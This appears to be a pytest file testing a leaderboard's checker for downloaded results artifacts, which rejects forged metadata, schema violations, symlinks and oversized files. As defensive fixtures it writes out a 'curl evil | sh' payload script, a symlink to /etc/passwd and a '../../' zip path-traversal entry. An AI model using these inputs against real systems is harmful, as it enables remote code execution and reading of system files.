"""A downloaded results artifact is hostile: forged ones are rejected with a clear message, good ones pass."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import pytest

from competition.github import artifact
from competition.github.artifact import ArtifactRejected, check_artifact
from tests.leaderboard.factory import make_result

SHA = "1" * 40
OTHER_SHA = "2" * 40


def good_artifact(directory: Path, runner_class: str = "local", pr: int = 7, sha: str = SHA) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    artifact.write_metadata(directory, pr, sha, runner_class)
    for event in ("mlp_sprint_offline", "cnn_marathon_offline"):
        result = make_result("ada", event_id=event, runner_class=runner_class)
        (directory / f"{result['result_id']}.json").write_text(json.dumps(result), encoding="utf-8")
    return directory


def rejection(source: Path, sha: str = SHA, pr: int | None = None) -> str:
    with pytest.raises(ArtifactRejected) as caught:
        check_artifact(source, expected_sha=sha, expected_pr=pr)
    return str(caught.value)


def test_a_good_artifact_is_accepted(tmp_path: Path) -> None:
    checked = check_artifact(good_artifact(tmp_path / "a"), expected_sha=SHA, expected_pr=7)
    assert (checked.pr_number, checked.head_sha, checked.runner_class) == (7, SHA, "local")
    assert [r["event"]["id"] for r in checked.results] == ["cnn_marathon_offline", "mlp_sprint_offline"]


def test_wrong_sha_is_rejected(tmp_path: Path) -> None:
    message = rejection(good_artifact(tmp_path / "a"), sha=OTHER_SHA)
    assert f"head_sha {SHA} is not the SHA this workflow run tested ({OTHER_SHA})" in message


def test_wrong_pr_is_rejected(tmp_path: Path) -> None:
    assert "pr_number 7 is not the run's PR #8" in rejection(good_artifact(tmp_path / "a"), pr=8)


def test_bad_schema_is_rejected_naming_file_and_field(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a")
    path = next(p for p in source.glob("ada--*.json"))
    result = json.loads(path.read_text())
    result["scores"]["speedup"]["value"] = "9000x"
    result["injected"] = True
    path.write_text(json.dumps(result))
    message = rejection(source)
    assert f"{path.name} [(root)]: does not match result.schema.json" in message
    assert "[scores.speedup]" in message


def test_non_json_and_extra_files_are_rejected(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a")
    (source / "payload.sh").write_text("curl evil | sh")
    (source / "broken.json").write_text("{not json")
    message = rejection(source)
    assert "payload.sh: is not an allowed file name" in message
    assert "broken.json: is not valid UTF-8 JSON" in message


def test_oversized_file_and_too_many_files_are_rejected(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a")
    (source / "huge.json").write_text(" " * (artifact.MAX_FILE_BYTES + 10))
    assert f"huge.json: is larger than {artifact.MAX_FILE_BYTES} bytes" in rejection(source)
    crowded = good_artifact(tmp_path / "b")
    for i in range(artifact.MAX_FILES):
        (crowded / f"x{i}.json").write_text("{}")
    assert f"more than {artifact.MAX_FILES}" in rejection(crowded)


def test_symlink_and_nested_folder_are_rejected(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a")
    os.symlink("/etc/passwd", source / "passwd.json")
    (source / "nested").mkdir()
    message = rejection(source)
    assert "passwd.json: is a symbolic link" in message
    assert "nested: is a directory" in message


def test_zip_with_path_traversal_is_rejected_without_extracting(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a")
    archive = tmp_path / "artifact.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in source.iterdir():
            zf.write(path, path.name)
        zf.writestr("../../escape.json", "{}")
    assert "../../escape.json: is not a plain file name (path traversal" in rejection(archive)
    assert not (tmp_path.parent / "escape.json").exists()


def test_a_good_zip_is_accepted(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a", runner_class="reference")
    archive = tmp_path / "artifact.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in source.iterdir():
            zf.write(path, path.name)
    assert check_artifact(archive, expected_sha=SHA).runner_class == "reference"


def test_missing_or_forged_metadata_is_rejected(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a")
    (source / "metadata.json").unlink()
    assert "metadata.json: is missing" in rejection(source)
    (source / "metadata.json").write_text(json.dumps({"pr_number": True, "head_sha": SHA, "runner_class": "local"}))
    assert "pr_number True is not a positive integer" in rejection(source)
    (source / "metadata.json").write_text(json.dumps({"pr_number": 7, "head_sha": SHA, "runner_class": "local",
                                                      "extra": "x"}))
    assert "must be an object with exactly pr_number, head_sha, runner_class" in rejection(source)


def test_results_must_match_the_runner_class_and_one_submission(tmp_path: Path) -> None:
    source = good_artifact(tmp_path / "a", runner_class="local")
    forged = make_result("ada", event_id="mlp_sprint", runner_class="reference")
    (source / "forged.json").write_text(json.dumps(forged))
    assert "runner class 'reference' differs from the metadata's 'local'" in rejection(source)
    other = good_artifact(tmp_path / "b")
    stranger = make_result("bob", event_id="mlp_sprint", runner_class="local")
    (other / "bob.json").write_text(json.dumps(stranger))
    assert "results belong to more than one submission" in rejection(other)


def test_write_metadata_refuses_bad_values(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="head_sha"):
        artifact.write_metadata(tmp_path, 7, "HEAD", "local")
